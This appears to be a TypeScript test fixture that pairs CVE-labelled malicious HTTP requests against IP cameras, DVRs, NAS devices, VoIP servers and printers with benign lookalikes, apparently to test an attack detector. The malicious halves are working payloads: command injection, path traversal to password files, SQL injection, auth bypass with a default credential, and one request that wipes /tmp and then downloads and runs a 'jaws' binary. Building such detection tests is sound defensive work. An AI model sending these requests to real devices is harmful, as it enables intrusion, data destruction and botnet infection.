import type { Cases } from './cases.ts';

export const camerasNas: Cases = {
  'CVE-2021-36260': ['PUT /SDK/webLanguage\n\n<language>$(id)</language>', 'GET /sdk/docs/language'],
  'CVE-2017-7921': ['GET /System/configurationFile?auth=YWRtaW46MTEK', 'GET /System/configurationFile'],
  'hikvision-looked-for': ['GET /ISAPI/Security/userCheck', 'GET /api/security/user'],
  'CVE-2021-33044': [
    'POST /RPC2_Login\n\n{"method":"global.login","params":{"userName":"admin","clientType":"NetKeyboard","loginType":"Direct","authorityType":"Default"}}',
    'POST /RPC2_Login\n\n{"method":"global.login","params":{"userName":"admin","clientType":"Web3.0"}}',
  ],
  'CVE-2013-6117': ['GET /current_config/passwd', 'GET /config/passwd-policy'],
  'tvt-dvr-language': [
    'GET /language/Swedish${IFS}&&echo${IFS}1>test&&tar${IFS}/string.js',
    'GET /language/Swedish/string.js',
  ],
  'tvt-nvms-9000': [
    'POST /editBlackAndWhiteList\n\n<request><filterTypeMode type="addressType"/></request>',
    'POST /editList\n\n<request/>',
  ],
  'CVE-2016-20016': [
    'GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws',
    'GET /shell?page=slow+door&server=cat',
  ],
  'CVE-2018-9995': ['GET /device.rsp?opt=user&cmd=list\nCookie: uid=admin', 'GET /device.rsp?opt=time'],
  'CVE-2024-3721': [
    'POST /device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id',
    'POST /device.rsp?opt=sys',
  ],
  'CVE-2025-34054': [
    'GET /cgi-bin/nobody/Search.cgi?action=cgi_query&ip=a&port=80&queryb64str=Lw==&username=admin%20;id',
    'GET /cgi-bin/search.cgi?action=query',
  ],
  'CVE-2024-7029': [
    'POST /cgi-bin/supervisor/Factory.cgi\n\naction=white_led&brightness=$(id)',
    'GET /cgi-bin/supervisor/Factory.cgi',
  ],
  'CVE-2025-34053': [
    'GET /cgi-bin/user/Config.cgi?.cab&action=get&category=Account.*',
    'GET /cgi-bin/user/Config.cgi?action=get',
  ],
  'CVE-2018-10088': [
    `POST /Login.htm\n\ncommand=login&username=${'A'.repeat(400)}&password=b`,
    'POST /Login.htm\n\ncommand=login&username=a&password=b',
  ],
  'CVE-2017-7577': ['GET ../../../../../mnt/mtd/Config/Account1', 'GET /mnt/photos/Account1'],
  'CVE-2019-12725': [
    "GET /cgi-bin/kerbynet?Action=x509view&Section=NoAuthREQ&User=&x509type='%0Aid%0A'|",
    'GET /cgi-bin/kerbynet?Section=NoAuthREQ',
  ],
  'CVE-2014-9727': [
    'GET /cgi-bin/webcm?getpage=../html/menus/menu2.html&var:lang=%26%20id%20%26',
    'GET /cgi-bin/webcm?var:lang=de',
  ],
  'CVE-2017-8225': ['GET /system.ini?loginuse&loginpas', 'GET /system.ini'],
  'CVE-2017-17106': ['GET /web/cgi-bin/hi3510/param.cgi?cmd=getuser', 'GET /cgi-bin/param.cgi?cmd=gettime'],
  'CVE-2023-6895': [
    'POST /php/ping.php\n\njsondata[ip]=netstat -ano&jsondata[type]=1',
    'POST /ping.php\n\nip=192.0.2.7',
  ],
  'onvif-looked-for': ['POST /onvif/device_service\n\n<GetSystemDateAndTime/>', 'GET /device_service'],
  'CVE-2018-6961': [
    'POST /scripts/ajaxPortal.lua\n\ndestination=8.8.8.8$(id)&source=192.0.2.1&test=TRACEROUTE',
    'GET /scripts/portal.lua',
  ],
  'CVE-2019-7193': ['POST /photo/p/api/album.php\n\na=setSlideshow&f=qsamplealbum', 'GET /photo/album.php'],
  'qnap-login-page': ['GET /cgi-bin/authLogin.cgi', 'GET /cgi-bin/login.cgi'],
  'CVE-2021-28799': ['GET /cgi-bin/backup/hbs?sid=jisoosocoolhbsmgnt', 'GET /cgi-bin/backup/hbs?sid=1'],
  'CVE-2018-17153': [
    'POST /cgi-bin/network_mgr.cgi\nCookie: username=admin; local_login=1\n\ncmd=cgi_get_ipv6&flag=1',
    'GET /cgi-bin/network_mgr.cgi',
  ],
  'CVE-2018-18472': [
    'PUT /api/1.0/rest/language_configuration\n\nlanguage=`id`',
    'PUT /api/1.0/rest/language_configuration\n\nlanguage=en',
  ],
  'CVE-2022-24990': [
    'GET /module/api.php?mobile/webNasIPS\nUser-Agent: TNAS',
    'GET /module/api.php?mobile/version',
  ],
  'CVE-2020-28188': ['GET /include/makecvs.php?Event=%60id%60', 'GET /include/cvs.php?Event=1'],
  'CVE-2020-35713': [
    'POST /goform/langSwitch\n\nlangSelectionOnly=0;id',
    'POST /goform/langSwitch\n\nlangSelectionOnly=1',
  ],
  'CVE-2020-5722': [
    "POST /cgi\n\naction=sendPasswordEmail&user_name=admin' or 1=1--",
    'POST /cgi\n\naction=sendPasswordEmail&user_name=admin',
  ],
  'CVE-2019-10662': ['GET /cgi?action=backupUCMConfig&file-backup=.;id', 'GET /cgi?action=status'],
  'CVE-2012-4869': [
    'GET /recordings/misc/callme_page.php?action=c&callmenum=1@from-internal/n%0D%0AApplication:%20system%0D%0AData:%20id',
    'GET /recordings/page.php?action=c',
  ],
  'CVE-2025-57819': [
    'GET /admin/ajax.php?module=FreePBX%5Cmodules%5Cendpoint%5Cajax&command=model&template=x&model=model&brand=x%27',
    'GET /admin/ajax.php?module=core',
  ],
  'CVE-2014-7235': [
    'GET /recordings/index.php\nCookie: ari_lang=(); ari_auth=O:8:"DB_mysql":6:{}',
    'GET /recordings/list.php',
  ],
  'voip-portals-looked-for': ['GET /a2billing/admin/Public/index.php', 'GET /billing/admin/index.php'],
  'elastix-graph-inclusion': [
    'GET /vtigercrm/graph.php?current_language=../../../../etc/amportal.conf%00&module=Accounts&action',
    'GET /graph.php?current_language=en',
  ],
  'CVE-2024-51978': ['GET /etc/mnt_info.csv', 'GET /info.csv'],
  'hp-printers-looked-for': ['GET /hp/device/DeviceInformation/View', 'GET /device/information'],
};
